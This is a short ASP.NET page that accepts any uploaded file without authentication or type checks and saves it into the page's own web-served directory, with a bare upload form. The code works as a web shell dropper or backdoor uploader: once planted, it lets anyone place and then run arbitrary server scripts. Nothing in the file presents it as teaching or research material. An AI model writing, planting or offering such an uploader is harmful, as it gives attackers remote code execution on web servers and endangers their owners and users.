<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e)
{
    if (Request.Files.Count == 1) {
        HttpPostedFile up = Request.Files[0];
        string here = new System.IO.FileInfo(Request.PhysicalPath).DirectoryName;
        up.SaveAs(System.IO.Path.Combine(here, System.IO.Path.GetFileName(up.FileName)));
        Response.Write("stored");
    }
}
</script>
<form method="post" enctype="multipart/form-data"><input type="file" name="f"/><input type="submit"/></form>
